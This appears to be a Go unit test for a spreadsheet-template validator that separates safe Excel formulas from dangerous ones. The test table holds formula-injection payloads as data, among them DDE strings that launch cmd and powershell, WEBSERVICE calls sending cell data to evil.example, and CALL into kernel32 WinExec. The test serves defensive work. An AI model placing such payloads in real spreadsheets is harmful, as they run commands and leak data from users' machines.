package templates

import "testing"

func TestUnsafeFormula(t *testing.T) {
	t.Parallel()
	cellRule := formulaRule{own: SheetReport, names: map[string]bool{"f_so_cuoc": true}}
	listRule := formulaRule{own: SheetReport, sheets: templateSheets}
	nameRule := formulaRule{sheets: templateSheets}
	tests := []struct {
		name    string
		rule    formulaRule
		formula string
		why     string // "" when safe
	}{
		{"a sum of cells", cellRule, "SUM(D12:D14)*2", ""},
		{"arithmetic with $ and %", cellRule, "=($D$12+D13)/D14*100%", ""},
		{"rounding and logic", cellRule, "IF(D12>0,ROUND(D13/D12*100,2),0)", ""},
		{"a whole column", cellRule, "SUM(D:D)", ""},
		{"the template's name", cellRule, "f_so_cuoc*2", ""},
		{"text and comparison", cellRule, `IF(D12="",0,1)`, ""},
		{"an array constant", cellRule, "SUM({1,2;3,4})", ""},
		{"its own sheet named", cellRule, "'Báo cáo'!D12+1", ""},
		{"DDE", cellRule, "cmd|' /C calc'!A0", txtFormulaLink},
		{"DDE with a prefix", cellRule, "=1+cmd|'/c powershell'!'A1'", txtFormulaLink},
		{"another workbook", cellRule, "[1]Sheet1!A1", txtFormulaLink},
		{"a path to another workbook", cellRule, `'C:\x\[a.xlsx]S'!A1`, txtFormulaLink},
		{"WEBSERVICE", cellRule, `WEBSERVICE("http://evil.example/x?"&D12)`, "WEBSERVICE"},
		{"WEBSERVICE as Excel stores it", cellRule, `_xlfn.WEBSERVICE("http://evil.example")`, "_XLFN.WEBSERVICE"},
		{"HYPERLINK", cellRule, `HYPERLINK("http://evil.example","Bấm vào đây")`, "HYPERLINK"},
		{"INDIRECT", cellRule, `INDIRECT("_meta!B1")`, "INDIRECT"},
		{"CALL", cellRule, `CALL("kernel32","WinExec","JCJ","calc",0)`, "CALL"},
		{"REGISTER", cellRule, `REGISTER("x","y")`, "REGISTER"},
		{"another sheet from a cell", cellRule, "_meta!B1", "_meta!B1"},
		{"an unknown name", cellRule, "SECRET+1", "SECRET"},
		{"a validation list on the lists sheet", listRule, "'_lists'!$A$1:$A$8", ""},
		{"a validation list elsewhere", listRule, "Other!$A$1:$A$8", "Other!$A$1:$A$8"},
		{"a print area", nameRule, "'Báo cáo'!$A$1:$E$70", ""},
		{"print titles", nameRule, "'Báo cáo'!$9:$10", ""},
		{"a name without a sheet", nameRule, "A1", "A1"},
		{"a name that calls out", nameRule, `WEBSERVICE("http://x")`, "WEBSERVICE"},
	}
	for _, tt := range tests {
		if got := tt.rule.unsafeFormula(tt.formula); got != tt.why {
			t.Errorf("%s: unsafeFormula(%q) = %q, want %q", tt.name, tt.formula, got, tt.why)
		}
	}
}
